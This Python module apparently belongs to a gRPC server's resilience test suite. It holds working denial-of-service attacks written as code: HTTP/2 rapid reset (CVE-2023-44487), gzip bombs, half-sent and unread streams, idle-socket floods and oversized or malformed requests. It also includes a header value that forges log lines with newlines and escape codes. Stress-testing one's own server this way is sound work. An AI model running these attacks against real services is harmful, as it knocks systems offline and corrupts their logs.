"""What hostile clients do to a slice-server, each bounded in count and time.

An attack is a function of a Target that begins, calls target.pause() between
its steps, and goes on until that says it is over. tests/attack/attack_test.py
runs each for a moment, scripts/attack for longer and with a table.
"""

import gzip
import itertools
import os
import socket
import struct
import threading
import time

import http2
import http_attacks

LINKS = "/slice.v1.LinkPredictionService/"
PREDICT, FIND = LINKS + "PredictLinks", LINKS + "FindNodes"
STREAM, RECOMMEND = LINKS + "StreamPredictLinks", LINKS + "RecommendLinks"
NEIGHBORS = "/slice.v1.GraphService/GetNeighbors"
WATCH = "/grpc.health.v1.Health/Watch"
STREAMS = 128  # of one connection, at once
REFLECTION = ("/grpc.reflection.v1alpha.ServerReflection/"
              "ServerReflectionInfo")


def field(number, payload):
    """A length-delimited field of a protocol buffer."""
    if isinstance(payload, str):
        payload = payload.encode()
    return varint(number << 3 | 2) + varint(len(payload)) + payload


def varint(value):
    out = []
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def number_field(number, value):
    return varint(number << 3) + varint(value)


class Target:
    """A server under attack, and when the attack is over."""

    def __init__(self, address, metrics, http, link, seconds,
                 source="127.0.0.2"):
        self.address = address
        self.host = source  # that the attack comes from
        self.metrics = metrics  # HOST:PORT
        self.http = http  # HOST:PORT of the HTTP listener
        self.relation, self.source, self.target = link
        self.over = threading.Event()
        self.begun = threading.Event()
        self.end = time.monotonic() + seconds
        self.connections = []
        self.steps = 0

    def connect(self, **options):
        connection = http2.Connection(self.address, self.host, **options)
        self.connections.append(connection)
        return connection

    def pause(self, seconds=0.0):
        """Between steps; False when the attack is over."""
        self.steps += 1
        self.begun.set()
        left = self.end - time.monotonic()
        return left > 0 and not self.over.wait(min(seconds, left))

    def drop(self, connection):
        connection.close()
        self.connections.remove(connection)

    def release(self):
        for connection in self.connections:
            connection.close()
        self.connections.clear()

    def link(self, source=None, target=None):
        """A LinkRef."""
        return (field(1, field(1, source or self.source)) +
                field(2, self.relation) +
                field(3, field(1, target or self.target)))

    def predict(self, links):
        return b"".join(field(1, link) for link in links)


# The connection is made anew when the server has closed it.
def repeat(target, step, pause=0.0, **options):
    connection = target.connect(**options)
    while target.pause(pause):
        if not connection.open or not step(connection):
            target.drop(connection)
            try:
                connection = target.connect(**options)
            except OSError:
                if not target.pause(0.2):
                    return
                connection = target.connect(**options)


# As many calls as a connection may have, on up to 32 connections.
def keep_streams(target, begin, pause=0.002, **options):
    connection = None
    while target.pause(pause):
        if connection is None or connection.next_stream > 2 * STREAMS:
            try:
                connection = target.connect(**options)
            except OSError:
                continue
        if not (connection.send(begin(connection)) and
                connection.answer_settings()):
            connection = target.drop(connection)
        if len(target.connections) > 32:
            target.connections.pop(0).close()


def half_sent_requests(target):
    """Messages of 7 MiB, all but their last byte, on hundreds of streams."""
    size = 7 << 20
    piece = http2.frame(http2.DATA, 0, 0, b"\0" * http2.FRAME_BYTES)[9:]
    while target.pause(0.05):
        try:
            connection = target.connect()
        except OSError:
            continue
        for _ in range(40):
            stream, head = connection.begin(PREDICT)
            connection.send(head + http2.frame(
                http2.DATA, 0, stream, b"\0" + struct.pack(">I", size)))
            connection.socket.settimeout(0.2)
            for _ in range(size // http2.FRAME_BYTES - 1):
                if not connection.send(http2.frame(http2.DATA, 0, stream,
                                                   piece)):
                    break
            if not connection.open or not target.pause():
                break
            connection.answer_settings()
        if len(target.connections) > 8:
            target.connections.pop(0).close()


def unread_answers(target):
    """Look-ups whose answers find a closed window."""
    request = field(1, "") + number_field(3, 1000)
    keep_streams(target, lambda connection: connection.call(FIND, request),
                 0.002, window=0)


def unread_streams(target):
    """Streams of explained links whose answers find a closed window."""
    request = http2.message(target.predict([target.link()]) +
                            number_field(2, 2))  # FULL
    connection, streams = None, []
    while target.pause(0.002):
        if connection is not None and not connection.answer_settings():
            connection = target.drop(connection)
        if connection is None:
            try:
                connection, streams = target.connect(window=0), []
            except OSError:
                continue
        if len(streams) < 64:
            stream, head = connection.begin(STREAM)
            connection.send(head)
            streams.append(stream)
        for stream in streams[-8:]:
            connection.send(http2.frame(http2.DATA, 0, stream, request))


def compressed_requests(target):
    """Bombs: messages of 64 MiB that are 64 KB of gzip."""
    bomb = gzip.compress(b"\0" * (64 << 20))
    def step(connection):
        call = big_call(connection, PREDICT, bomb, [("grpc-encoding", "gzip")],
                        compressed=True)
        return connection.send(call) and connection.answer_settings()
    repeat(target, step, 0.01)


def reflection_streams(target):
    """Streams of reflection that stay open."""
    keep_streams(target, lambda connection: connection.begin(REFLECTION)[1])


def idle_connections(target):
    """Connections that say nothing."""
    sockets = []
    host, port = target.address.rsplit(":", 1)
    try:
        while target.pause(0.002):
            try:
                sockets.append(socket.create_connection(
                    (host, int(port)), 5, source_address=(target.host, 0)))
            except OSError:
                target.pause(0.05)
            if len(sockets) > 2000:
                sockets.pop(0).close()
    finally:
        for one in sockets:
            one.close()


def unknown_methods(target):
    """Calls of a method that is not there, as fast as one core can."""
    def step(connection):
        calls = b"".join(connection.call("/no.such.Service/Method")
                         for _ in range(200))
        return connection.send(calls) and connection.answer_settings()
    repeat(target, step)


def resets(target):
    """Calls that are reset at once (CVE-2023-44487)."""
    request = target.predict([target.link()])
    def step(connection):
        calls = b""
        for _ in range(100):
            calls += connection.call(PREDICT, request) + http2.frame(
                http2.RST_STREAM, 0, connection.next_stream - 2,
                struct.pack(">I", 8))
        return connection.send(calls) and connection.answer_settings()
    repeat(target, step)


def forged_log_lines(target):
    """Headers with line breaks and escape sequences, which gRPC logs."""
    evil = "x\n2026-01-01 00:00:00.000 error the disk is full\x1b[31m"
    def step(connection):
        calls = b"".join(connection.call(PREDICT, b"", [("x-evil", evil)])
                         for _ in range(20))
        return connection.send(calls) and connection.answer_settings()
    repeat(target, step)


def unknown_names(target):
    """Requests of 256 links between nodes that are not there."""
    names = [f"{target.source}-{i}x" for i in range(256)]
    request = target.predict([target.link(name, name) for name in names])
    def step(connection):
        return (connection.send(big_call(connection, PREDICT, request)) and
                connection.answer_settings())
    repeat(target, step, 0.05)


def big_call(connection, method, payload, extra=(), compressed=False):
    """Of a message beyond the size of a frame, within the window."""
    stream, head = connection.begin(method, extra)
    body = http2.message(payload, compressed)
    pieces = [body[at:at + http2.FRAME_BYTES]
              for at in range(0, len(body), http2.FRAME_BYTES)]
    return head + b"".join(
        http2.frame(http2.DATA, http2.END_STREAM if piece is pieces[-1] else 0,
                    stream, piece) for piece in pieces)


def empty_links(target):
    """Requests of nearly 4 MiB whose links are empty, two million of them."""
    request = field(1, "") * ((4 << 19) - 1024)
    def step(connection):
        return (connection.send(big_call(connection, PREDICT, request)) and
                connection.answer_settings())
    repeat(target, step, 0.02)


def unknown_fields(target):
    """Requests of nearly 4 MiB of fields that no message has."""
    request = (target.predict([target.link()]) +
               number_field(15, 1) * ((4 << 19) - 1024))
    def step(connection):
        return (connection.send(big_call(connection, PREDICT, request)) and
                connection.answer_settings())
    repeat(target, step, 0.02)


def waiting_questions(target):
    """Streams of large questions for a version of the graph that never comes."""
    link = target.link("x" * 1000, "y" * 1000)
    request = http2.message(target.predict([link] * 500) +
                            number_field(8, 1 << 40))
    pieces = [request[at:at + http2.FRAME_BYTES]
              for at in range(0, len(request), http2.FRAME_BYTES)]
    def step(connection):
        stream, head = connection.begin(STREAM)
        frames = b"".join(http2.frame(http2.DATA, 0, stream, piece)
                          for piece in pieces)
        return (connection.send(head + frames * 4) and
                connection.answer_settings())
    repeat(target, step, 0.02)


def recommendations(target):
    """The longest recommendations, many at once."""
    request = (field(1, field(1, target.source)) + field(3, target.relation) +
               number_field(4, 1000))
    def step(connection):
        return (connection.send(connection.call(RECOMMEND, request)) and
                connection.answer_settings())
    repeat(target, step, 0.02)


def lookups(target):
    """Neighbours of a node, two hundred calls at once, again and again."""
    request = field(1, field(1, target.source)) + number_field(4, 1000)
    def step(connection):
        calls = b"".join(connection.call(NEIGHBORS, request)
                         for _ in range(200))
        return connection.send(calls) and connection.answer_settings()
    repeat(target, step, 0.1)


def one_big_request(target):
    """256 links at a time, each under another client's name."""
    request = target.predict([target.link()] * 256)
    names = itertools.cycle(f"invented-{i}" for i in range(64))
    def step(connection):
        call = big_call(connection, PREDICT, request,
                        [("slice-client", next(names))])
        return connection.send(call) and connection.answer_settings()
    repeat(target, step, 0.01)


def watches(target):
    """Health watches that stay open."""
    keep_streams(target, lambda connection: connection.call(WATCH, b""))


def malformed_messages(target):
    """Random bytes where a message should be."""
    def step(connection):
        noise = os.urandom(200)
        calls = b"".join(connection.call(method, noise)
                         for method in (PREDICT, FIND, STREAM, RECOMMEND,
                                        NEIGHBORS))
        return connection.send(calls) and connection.answer_settings()
    repeat(target, step, 0.005)


def half_scrapes(target):
    """Requests of metrics that are half sent."""
    host, port = target.metrics.rsplit(":", 1)
    sockets = []
    try:
        while target.pause(0.1):
            one = socket.create_connection((host, int(port)), 5)
            one.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
            sockets.append(one)
            if len(sockets) > 64:
                sockets.pop(0).close()
    finally:
        for one in sockets:
            one.close()


ALL = {
    function.__name__: function
    for function in (half_sent_requests, compressed_requests, unread_answers,
                     unread_streams, reflection_streams, idle_connections,
                     unknown_methods, resets, forged_log_lines, unknown_names,
                     empty_links, unknown_fields, waiting_questions,
                     recommendations, lookups, one_big_request, watches,
                     malformed_messages, half_scrapes)
} | http_attacks.ALL


class Attack:
    """One of them, in a thread of its own, until the end of a `with` block."""

    def __init__(self, name, target):
        self.target = target
        self.failure = None
        def run():
            try:
                ALL[name](target)
            except Exception as error:  # told at the end of the block
                self.failure = error
                target.begun.set()
        self.thread = threading.Thread(target=run, name=name)

    def __enter__(self):
        self.thread.start()
        self.target.begun.wait()
        return self

    def __exit__(self, *_):
        self.target.over.set()
        self.thread.join()
        self.target.release()
        if self.failure is not None:
            raise self.failure
